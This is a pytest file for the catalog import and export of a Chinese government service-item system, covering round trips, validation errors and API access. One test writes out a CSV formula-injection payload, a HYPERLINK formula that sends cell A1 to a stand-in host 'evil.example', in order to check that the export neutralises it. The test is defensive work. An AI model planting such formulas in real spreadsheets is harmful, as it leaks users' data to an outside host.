"""Catalog import and export in JSON, CSV and XLSX: round trips, all-or-nothing validation, API."""

import csv
import hashlib
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, func, select, update

from tests.factories import content_dict, make_actor, make_agency, make_item
from tongban.catalog import service
from tongban.catalog.exchange_api import router
from tongban.catalog.exchange import export_items, header, import_items
from tongban.catalog.models import Agency, Attachment, ItemFacet, ItemVersion, ServiceItem
from tongban.catalog.schemas import ItemContent
from tongban.core.errors import InvalidInput

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 120  # > 32,000 base64 characters: split over XLSX rows
DOCX = b"PK\x03\x04 blank template"


def _store(db_session, clock, data: bytes, filename: str, content_type: str) -> str:
    sha = hashlib.sha256(data).hexdigest()
    db_session.add(Attachment(sha256=sha, filename=filename, content_type=content_type, size=len(data), data=data,
                              created_at=clock.now()))
    db_session.flush()
    return sha


def build_catalog(db_session, clock) -> dict:
    """Items with materials and files, tiered and per-unit fees, steps, a sub-item and a suspended item."""
    city = make_agency(db_session, name="广安市市场监督管理局", region_code="511600", level="city")
    county = make_agency(db_session, name="广安市广安区行政审批局", region_code="511602", level="county")
    sample = _store(db_session, clock, PNG, "样本.png", "image/png")
    template = _store(db_session, clock, DOCX, "申请书.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    materials = content_dict()["materials"]
    materials[0] = {**materials[0], "sample_sha256": sample, "template_sha256": template, "notes": "第一行\n第二行，含“引号”,逗号"}
    fees = [
        {"name": "不动产登记费", "rule": "tiered", "tiers": [{"up_to": 1, "amount_fen": 8000}, {"amount_fen": 1000}],
         "basis": "发改价格规〔2016〕2559号"},
        {"name": "工本费", "rule": "per_unit", "amount_fen": 1000, "unit": "本", "basis": "财税〔2016〕79号"},
    ]
    parent = make_item(db_session, clock, agency=city, code="SCJG-0001", basic_code="000123", materials=materials, fees=fees,
                       result={"name": "食品经营许可证", "kind": "证照", "sample_sha256": sample, "delivery": ["post"]},
                       address="=广安市广安区金安大道（以等号开头，不是公式）")
    make_item(db_session, clock, agency=city, code="SCJG-0001-01", parent_code="SCJG-0001", relation="sub",
              name="食品经营许可（变更）", legal_limit_days=None, promised_limit_days=None, booking=True)
    suspended = make_item(db_session, clock, agency=county, code="GAQ-0002", name="小餐饮登记", item_type="confirmation",
                          level="county", prerequisites=["SCJG-0001"], max_visits=0)
    service.set_status(db_session=db_session, clock=clock, actor=make_actor(db_session, clock, role="admin")[0],
                       item_id=suspended.id, status="suspended", reason="系统升级", alternative="请到区政务服务中心窗口办理")
    db_session.commit()
    return {"parent": parent, "suspended": suspended, "sample": sample, "template": template}


def empty_items(db_session, *, keep_agencies_and_files: bool) -> None:
    db_session.execute(update(ServiceItem).values(live_version_id=None, parent_id=None, alternative_item_id=None))
    for table in (ItemFacet, ItemVersion, ServiceItem):  # the directory list is not part of the items' exchange
        db_session.execute(delete(table))
    if not keep_agencies_and_files:
        from tongban.accounts.models import StaffToken

        for table in (Attachment, StaffToken, Agency):
            db_session.execute(delete(table))
    db_session.commit()
    db_session.expire_all()


def item_count(db_session) -> int:
    return db_session.scalar(select(func.count(ServiceItem.id)))


def xlsx_sheets(data: bytes) -> dict:
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: [[c.value for c in row] for row in sheet.iter_rows()] for sheet in book.worksheets}


@pytest.mark.req("CAT-14")
@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_round_trip_into_an_empty_catalog(db_session, clock, fmt):
    build_catalog(db_session, clock)
    before_json = export_items(db_session=db_session, fmt="json")
    exported = export_items(db_session=db_session, fmt=fmt)
    empty_items(db_session, keep_agencies_and_files=fmt == "csv")  # a CSV carries neither
    assert item_count(db_session) == 0

    calls = []
    report = import_items(db_session=db_session, clock=clock, data=exported, fmt=fmt, by="导入测试",
                          progress=lambda done, total: calls.append((done, total)))
    db_session.commit()
    assert (report.created, report.updated, report.unchanged, report.errors) == (3, 0, 0, [])
    assert report.agencies_created == (0 if fmt == "csv" else 2)
    assert calls[-1] == (3, 3)

    assert json.loads(export_items(db_session=db_session, fmt="json")) == json.loads(before_json)
    again = export_items(db_session=db_session, fmt=fmt)
    if fmt == "xlsx":
        assert xlsx_sheets(again) == xlsx_sheets(exported)
    else:
        assert again == exported

    child = service.get_item_by_code(db_session=db_session, implementation_code="SCJG-0001-01")
    assert child.parent_id == service.get_item_by_code(db_session=db_session, implementation_code="SCJG-0001").id
    assert service.get_item_by_code(db_session=db_session, implementation_code="GAQ-0002").status == "suspended"

    second = import_items(db_session=db_session, clock=clock, data=exported, fmt=fmt, by="导入测试")
    assert (second.created, second.updated, second.unchanged, second.agencies_created) == (0, 0, 3, 0)


@pytest.mark.req("CAT-14")
def test_export_shapes(db_session, clock):
    built = build_catalog(db_session, clock)
    body = json.loads(export_items(db_session=db_session, fmt="json"))
    assert body["format"] == "tongban-catalog" and body["version"] == 1
    assert [i["identity"]["implementation_code"] for i in body["items"]] == ["GAQ-0002", "SCJG-0001", "SCJG-0001-01"]
    assert {a["sha256"] for a in body["attachments"]} == {built["sample"], built["template"]}
    assert len(body["agencies"]) == 2

    data = export_items(db_session=db_session, fmt="csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:2] == ["实施编码 implementation_code", "编码体系 code_scheme"]
    assert header("name") in rows[0] and len(rows) == 4
    fees = json.loads(rows[2][rows[0].index(header("fees"))])
    assert fees[0]["tiers"][1] == {"up_to": None, "amount_fen": 1000}

    sheets = xlsx_sheets(export_items(db_session=db_session, fmt="xlsx"))
    assert set(sheets) == {"事项", "实施机构", "附件"}
    assert len(sheets["附件"]) == 1 + 3  # the PNG takes two rows, the template one
    address = sheets["事项"][2][sheets["事项"][0].index(header("address"))]
    assert address.startswith("=广安市")  # stored as text, not as a formula

    only_one = json.loads(export_items(db_session=db_session, fmt="json", item_ids=[built["suspended"].id]))
    assert [i["identity"]["implementation_code"] for i in only_one["items"]] == ["GAQ-0002"]
    assert only_one["attachments"] == []


def _csv_with(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


@pytest.mark.req("CAT-14")
def test_bad_csv_row_names_row_and_field_and_writes_nothing(db_session, clock):
    build_catalog(db_session, clock)
    rows = list(csv.reader(io.StringIO(export_items(db_session=db_session, fmt="csv").decode("utf-8-sig"))))
    empty_items(db_session, keep_agencies_and_files=True)
    rows[3][rows[0].index(header("item_type"))] = "行政检查"
    with pytest.raises(InvalidInput) as caught:
        import_items(db_session=db_session, clock=clock, data=_csv_with(rows), fmt="csv", by="导入测试")
    assert caught.value.code == "IMPORT_INVALID"
    [error] = caught.value.details
    assert error.startswith("第 4 行（SCJG-0001-01）“事项类型 item_type”") and "licensing" in error
    assert "未导入任何数据" in caught.value.message
    db_session.commit()
    assert item_count(db_session) == 0


@pytest.mark.req("CAT-14")
def test_every_problem_is_listed(db_session, clock):
    build_catalog(db_session, clock)
    body = json.loads(export_items(db_session=db_session, fmt="json"))
    empty_items(db_session, keep_agencies_and_files=False)
    body["agencies"] = body["agencies"][:1]  # the county agency is missing now
    body["items"][1]["content"]["materials"][0]["name"] = ""
    body["attachments"][0]["data_base64"] = "aGVsbG8="  # does not match its SHA-256
    with pytest.raises(InvalidInput) as caught:
        import_items(db_session=db_session, clock=clock, data=json.dumps(body).encode(), fmt="json", by="导入测试")
    details = "\n".join(caught.value.details)
    assert "第 1 个事项（GAQ-0002）“实施机构代码 agency_code”：没有代码为" in details
    assert "第 2 个事项（SCJG-0001）“申请材料 materials[1].name”" in details
    assert "文件内容与 SHA-256 摘要不符" in details
    db_session.commit()
    assert db_session.scalar(select(func.count(Agency.id))) == 0


def test_unknown_format_and_foreign_file(db_session, clock):
    with pytest.raises(InvalidInput) as caught:
        export_items(db_session=db_session, fmt="pdf")
    assert caught.value.code == "BAD_FORMAT"
    with pytest.raises(InvalidInput) as caught:
        import_items(db_session=db_session, clock=clock, data=b'{"hello": 1}', fmt="json", by="x")
    assert "tongban-catalog" in caught.value.details[0]
    with pytest.raises(InvalidInput):
        import_items(db_session=db_session, clock=clock, data=b"not a zip", fmt="xlsx", by="x")


@pytest.fixture
def app(app):
    if not any(getattr(r, "path", "") == "/api/v1/catalog/export" for r in app.routes):
        app.include_router(router)
    return app


@pytest.mark.req("CAT-14")
def test_export_and_import_api(client, db_session, clock):
    build_catalog(db_session, clock)
    _, admin = make_actor(db_session, clock, role="admin")
    editor_agency = make_agency(db_session)
    _, editor = make_actor(db_session, clock, role="catalog_editor", agency=editor_agency)
    db_session.commit()

    response = client.get("/api/v1/catalog/export?format=xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert 'filename="tongban-catalog.xlsx"' in response.headers["content-disposition"]
    assert client.get("/api/v1/catalog/export?format=csv").headers["content-type"].startswith("text/csv")
    bad = client.get("/api/v1/catalog/export?format=pdf")
    assert bad.status_code == 422 and "json、csv 或 xlsx" in bad.json()["error"]["message"]

    data = client.get("/api/v1/catalog/export?format=json").content
    assert client.post("/api/v1/catalog/import?format=json", content=data).status_code == 401
    forbidden = client.post("/api/v1/catalog/import?format=json", content=data, headers={"Authorization": f"Bearer {editor}"})
    assert forbidden.status_code == 403
    ok = client.post("/api/v1/catalog/import?format=json", content=data, headers={"Authorization": f"Bearer {admin}"})
    assert ok.status_code == 200 and ok.json()["unchanged"] == 3

    body = json.loads(data)
    body["items"][0]["content"]["item_type"] = "petition"
    invalid = client.post("/api/v1/catalog/import?format=json", content=json.dumps(body).encode(),
                          headers={"Authorization": f"Bearer {admin}"})
    assert invalid.status_code == 422 and invalid.json()["error"]["code"] == "IMPORT_INVALID"
    assert "第 1 个事项" in invalid.json()["error"]["details"][0]


# ---------------------------------------------------------------- issue 25 §4: structured fields, formulas


def full_content(sample: str) -> dict:
    """An item with every optional element given a value other than its default, nested ones too."""
    content = content_dict(
        aliases=["开饭馆"],
        materials=[
            {"key": "m1", "name": "食品经营许可申请书", "forms": ["original", "electronic"], "necessity": "conditional",
             "condition": "委托办理时", "source": "申请人自备", "original_count": 2, "copy_count": 1, "paper_size": "A3",
             "e_copy_required": True, "e_form": True, "sample_sha256": sample, "template_sha256": sample,
             "acceptance_standard": "签字盖章", "notes": "须知", "basis": ["b1"], "exemptions": ["pledge", "licence"],
             "licence_type": "营业执照"},
        ],
        steps=[{"name": "受理", "actor": "acceptor", "description": "窗口受理", "review_points": ["齐全"],
                "time_limit_days": 0.5, "time_note": "半日"}],
        limit_unit="natural_day", limit_note="不含公示时间", case_kind="instant",
        fees=[{"name": "工本费", "rule": "per_unit", "amount_fen": 1000, "unit": "本", "basis": "财税〔2016〕79号",
               "note": "按本收取", "units_field": "copies"}],
        special_procedures=[{"name": "听证", "max_days": 20, "note": "申请人要求时"}],
        result={"name": "食品经营许可证", "kind": "证照", "sample_sha256": sample, "validity": "5年", "delivery": ["post"],
                "licence_type": "食品经营许可证", "validity_years": 5},
        handling_form="online", channels=["web", "mobile"], online_url="https://www.sczwfw.gov.cn/jiq/front/item/bszn",
        handling_scope="cross_province", review_standard="符合《食品经营许可管理办法》",
        review_rules={"posts": [{"post": "reviewer", "time_limit_days": 2, "method": "书面审查"}], "methods": ["实地核查"],
                      "on_the_spot": True},
        booking=True, online_payment=True, logistics=True, max_visits=0, on_site_verification=True,
        consult_address="咨询台", complaint_email="ts@ga.gov.cn", quantity_limit="每人一份", intermediary_services="无",
        prerequisites=["SCJG-0000"], faqs=[{"question": "多久办好？", "answer": "当场办结"}],
        form=[{"key": "copies", "label": "份数", "kind": "number", "required": False, "max_length": 3, "prefill": "",
               "hint": "1–9"},
              {"key": "way", "label": "领取方式", "kind": "choice", "options": ["自取", "邮寄"], "prefill": "person.name",
               "hint": "选一项"}],
        pledge={"obligations": "如实申报", "content": "本人承诺所填信息真实", "liability": "虚假承诺撤销许可并记入信用记录"},
        parallel_agencies=["SCJG"], renewal=True,
    )
    content["legal_basis"][0]["kind"] = "administrative_regulation"
    content["conditions"][0]["basis"] = ["b1"]
    return content


@pytest.mark.req("CAT-14")
@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_an_item_with_every_optional_field_filled_round_trips(db_session, clock, fmt):
    """Issue 25 §4: `pledge` broke the XLSX export (500) and was a Python repr in the CSV."""
    agency = make_agency(db_session, name="广安市市场监督管理局", region_code="511600", level="city")
    sample = _store(db_session, clock, PNG, "样本.png", "image/png")
    content = full_content(sample)
    defaults = ItemContent.model_validate({k: content[k] for k in ("name", "item_type", "level", "audiences")})
    filled = ItemContent.model_validate(content)
    optional = [k for k, info in ItemContent.model_fields.items() if not info.is_required()]
    assert [k for k in optional if getattr(filled, k) == getattr(defaults, k)] == []
    make_item(db_session, clock, agency=agency, code="SCJG-0009", **{k: v for k, v in content.items() if k != "level"})
    db_session.commit()
    before = json.loads(export_items(db_session=db_session, fmt="json"))

    exported = export_items(db_session=db_session, fmt=fmt)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
        assert json.loads(rows[1][rows[0].index(header("pledge"))]) == content["pledge"]
    if fmt == "xlsx":
        sheet = xlsx_sheets(exported)["事项"]
        assert json.loads(sheet[1][sheet[0].index(header("pledge"))]) == content["pledge"]
    empty_items(db_session, keep_agencies_and_files=fmt == "csv")
    report = import_items(db_session=db_session, clock=clock, data=exported, fmt=fmt, by="导入测试")
    db_session.commit()
    assert (report.created, report.errors) == (1, [])
    assert json.loads(export_items(db_session=db_session, fmt="json")) == before


@pytest.mark.req("CAT-14")
def test_an_item_without_a_pledge_exports_null_and_imports_back(db_session, clock):
    agency = make_agency(db_session)
    make_item(db_session, clock, agency=agency)
    make_item(db_session, clock, agency=agency, name="食品经营许可（变更）")
    db_session.commit()
    exported = export_items(db_session=db_session, fmt="csv")
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert {row[rows[0].index(header("pledge"))] for row in rows[1:]} == {"null"}
    sheet = xlsx_sheets(export_items(db_session=db_session, fmt="xlsx"))["事项"]
    assert {row[sheet[0].index(header("pledge"))] for row in sheet[1:]} == {"null"}


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.req("DATA-03")
def test_the_open_data_csv_neutralises_formulas_and_imports_them_back(db_session, clock):
    """Issue 25 §4: `=HYPERLINK(...)` went into the catalog CSV as is, a live formula in Excel."""
    agency = make_agency(db_session, name="广安市市场监督管理局", region_code="511600", level="city")
    make_item(db_session, clock, agency=agency, code="SCJG-0010", name=FORMULA, address="@SUM(A1)", hours="-1+1",
              aliases=["+cmd", "'=already quoted"])
    db_session.commit()
    before = json.loads(export_items(db_session=db_session, fmt="json"))
    exported = export_items(db_session=db_session, fmt="csv")
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    cells = dict(zip(rows[0], rows[1]))
    assert cells[header("name")] == "'" + FORMULA
    assert (cells[header("address")], cells[header("hours")]) == ("'@SUM(A1)", "'-1+1")
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)

    empty_items(db_session, keep_agencies_and_files=True)
    import_items(db_session=db_session, clock=clock, data=exported, fmt="csv", by="导入测试")
    db_session.commit()
    assert json.loads(export_items(db_session=db_session, fmt="json")) == before


@pytest.mark.req("CAT-14")
def test_the_xlsx_export_api_answers_for_an_item_with_a_pledge(client, db_session, clock):
    agency = make_agency(db_session)
    make_item(db_session, clock, agency=agency, pledge={"obligations": "如实申报", "content": "承诺真实", "liability": "依法担责"})
    db_session.commit()
    response = client.get("/api/v1/catalog/export?format=xlsx")
    assert response.status_code == 200
    sheet = xlsx_sheets(response.content)["事项"]
    assert json.loads(sheet[1][sheet[0].index(header("pledge"))])["content"] == "承诺真实"
